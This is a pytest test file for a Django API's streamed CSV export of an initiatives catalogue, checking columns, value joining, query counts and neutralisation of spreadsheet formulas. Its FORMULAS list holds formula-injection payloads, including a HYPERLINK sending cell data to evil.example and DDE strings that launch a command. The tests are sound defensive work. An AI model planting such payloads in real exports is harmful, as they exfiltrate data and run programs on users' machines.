"""`?format=csv` on the initiatives list: every matching row, streamed."""

import csv
import datetime
import io

import pytest

from api.renderers import cell
from catalogue.downloads import spreadsheet_safe
from catalogue.models import Citation, Initiative, Requirement, Source, Technology
from tests.factories import add_published

pytestmark = pytest.mark.django_db

LIST = "/api/v1/initiatives/"


def read_csv(response):
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_streams_every_matching_row_not_one_page(client, make_initiative, make_sector):
    education = make_sector(slug="education")
    for number in range(25):
        make_initiative(slug=f"school-{number:02}", sectors=[education])
    make_initiative(slug="elsewhere")

    response = client.get(LIST, {"format": "csv", "sector": "education", "page_size": 2})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="casebook-initiatives.csv"'
    assert [row["slug"] for row in read_csv(response)] == [f"school-{number:02}" for number in range(25)]


def test_csv_has_one_column_per_field_and_joins_several_values(
    client, make_initiative, make_organisation, make_sector, make_technology, make_requirement
):
    make_initiative(
        slug="reader",
        title="Reading helper",
        title_zh="阅读助手",
        summary='Reads "aloud", line by line;\nfor children.',
        lead_organisation=make_organisation(slug="acme"),
        sectors=[make_sector(slug="education", position=1), make_sector(slug="health", position=2)],
        technologies=[make_technology(slug="speech-synthesis")],
        requirements=[make_requirement(2), make_requirement(5)],
        countries=["CN", "KE"],
        start_year=2022,
    )

    [row] = read_csv(client.get(LIST, {"format": "csv"}))

    assert list(row) == [
        "slug",
        "url",
        "html_url",
        "title",
        "title_zh",
        "summary",
        "summary_zh",
        "sectors",
        "lead_organisation",
        "countries",
        "technologies",
        "requirements",
        "sources",
        "start_year",
        "children_focus",
        "updated_at",
        # a tool profile's (issue 14), added after the others: v1 only adds
        "tasks",
        "deployment",
        "licence",
    ]
    assert row["url"] == "http://testserver/api/v1/initiatives/reader/"
    assert row["title_zh"] == "阅读助手"
    assert row["summary"] == 'Reads "aloud", line by line;\nfor children.'
    assert row["sectors"] == "education; health"
    assert row["lead_organisation"] == "acme"
    assert row["countries"] == "CN; KE"
    assert row["technologies"] == "speech-synthesis"
    assert row["requirements"] == "2; 5"
    assert row["sources"] == ""
    assert row["start_year"] == "2022"
    assert row["children_focus"] == "false"
    assert row["tasks"] == row["deployment"] == row["licence"] == ""


def test_csv_of_no_rows_still_has_the_header(client):
    response = client.get(LIST, {"format": "csv"})

    assert b"".join(response.streaming_content).decode() == (
        "slug,url,html_url,title,title_zh,summary,summary_zh,sectors,lead_organisation,countries,"
        "technologies,requirements,sources,start_year,children_focus,updated_at,tasks,deployment,licence\r\n"
    )


def test_accept_header_also_selects_csv(client, make_initiative):
    make_initiative(slug="reader")

    response = client.get(LIST, headers={"Accept": "text/csv"})

    assert [row["slug"] for row in read_csv(response)] == ["reader"]


def test_csv_with_a_bad_filter_is_a_json_400(client):
    response = client.get(LIST, {"format": "csv", "sector": "nowhere"})

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == ["sector"]


def test_csv_is_only_for_the_list(client, make_initiative):
    make_initiative(slug="reader")

    response = client.get(f"{LIST}reader/", {"format": "csv"})

    assert response.status_code == 404
    assert response.json() == {"detail": "Not found."}


# --- The same cells as the JSON list, at a fixed cost -----------------------------------------


def json_rows_as_csv(client, query):
    """The JSON list's rows for `query`, every page, each field as the CSV writes it (a cell a
    spreadsheet would take for a formula prefixed with an apostrophe)."""
    rows, page = [], 1
    while page:
        data = client.get(LIST, {**query, "page_size": 100, "page": page}).json()
        # `translations` is a nested object the CSV leaves out: it keeps its columns, Chinese in
        # title_zh and summary_zh (issue 15).
        rows += [
            {name: spreadsheet_safe(cell(value)) for name, value in record.items() if name != "translations"}
            for record in data["results"]
        ]
        page = page + 1 if data["next"] else None
    return rows


@pytest.mark.usefixtures("shipped_catalogue")
@pytest.mark.parametrize(
    "query",
    [{}, {"sector": "education", "ordering": "newest"}, {"q": "children"}, {"year_min": "2018"}],
    ids=["everything", "sector-newest", "search", "year"],
)
def test_csv_rows_are_the_json_rows_with_related_records_by_slug(client, query):
    csv_rows = read_csv(client.get(LIST, {**query, "format": "csv"}))

    assert csv_rows  # the shipped catalogue matches every query
    assert csv_rows == json_rows_as_csv(client, query)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, make_initiative, formula):
    make_initiative(slug="formula", title=formula, title_zh=formula, summary=formula, summary_zh="=1+1")

    [row] = read_csv(client.get(LIST, {"format": "csv"}))
    [record] = client.get(LIST).json()["results"]

    # The CSV shows the text with a leading apostrophe, which spreadsheets take as "text"...
    assert row["title"] == row["title_zh"] == row["summary"] == "'" + formula
    assert row["summary_zh"] == "'=1+1"
    # ...while the JSON keeps the partner's text as it was written.
    assert record["title"] == record["title_zh"] == record["summary"] == formula
    assert [row] == json_rows_as_csv(client, {})


def test_csv_leaves_ordinary_text_alone(client, make_initiative):
    make_initiative(slug="plain", title="Reading helper = fun", summary="'Quoted' 1+1 @home -ish")

    [row] = read_csv(client.get(LIST, {"format": "csv"}))

    assert row["title"] == "Reading helper = fun"
    assert row["summary"] == "'Quoted' 1+1 @home -ish"


def test_csv_lists_related_records_in_the_order_of_the_json(
    client, make_initiative, make_sector, make_technology, make_source, make_requirement
):
    undated = make_source(slug="undated-report", published_on=None)
    older = make_source(slug="older-report", published_on=datetime.date(2020, 1, 1))
    newer = make_source(slug="newer-report", published_on=datetime.date(2024, 1, 1))
    initiative = make_initiative(
        slug="reader",
        lead_organisation=None,
        start_year=None,
        children_focus=True,
        countries=["KE", "CN"],
        sectors=[make_sector(slug="zoology", position=1), make_sector(slug="arts", position=2)],
        technologies=[make_technology(slug="vision", name="Vision"), make_technology(slug="asr", name="ASR")],
        requirements=[make_requirement(7), make_requirement(2)],
        sources=[newer, older, undated],
    )
    # A second citation of a source lists it once.
    Citation.objects.create(initiative=initiative, source=newer, location="P9", position=9)

    [row] = read_csv(client.get(LIST, {"format": "csv"}))

    assert [row] == json_rows_as_csv(client, {})
    assert row["sectors"] == "zoology; arts"
    assert row["technologies"] == "asr; vision"
    assert row["requirements"] == "2; 7"
    assert row["countries"] == "CN; KE"
    assert row["lead_organisation"] == row["start_year"] == ""
    assert row["children_focus"] == "true"
    # Where an unknown date goes is the database's choice: first on SQLite, last on PostgreSQL.
    sources = row["sources"].split("; ")
    assert [source for source in sources if source != "undated-report"] == ["older-report", "newer-report"]
    assert len(sources) == 3


def test_csv_costs_the_same_queries_for_1_row_and_for_1200(client, make_sector, django_assert_num_queries):
    # 1,200 published initiatives in one sector, each with a technology, a requirement and a
    # source; only the first has a start year
    initiatives = add_published(
        1200,
        sectors=[make_sector(slug="education")],
        technologies=[Technology.objects.create(slug="asr", name="ASR")],
        requirements=[Requirement.objects.create(number=5, slug="privacy", title="Privacy")],
        sources=[Source.objects.create(slug="report", title="Report")],
    )
    Initiative.objects.filter(pk=initiatives[0].pk).update(start_year=2020)
    for year_min, rows in [("2020", 1), ("", 1200)]:
        # catalogue state for the ETag, checking that the sector slug exists, the sectors,
        # technologies, requirements and sources in list order, then the rows with the ids of
        # their related records
        with django_assert_num_queries(7):
            response = client.get(LIST, {"format": "csv", "sector": "education", "year_min": year_min})
            assert len(read_csv(response)) == rows
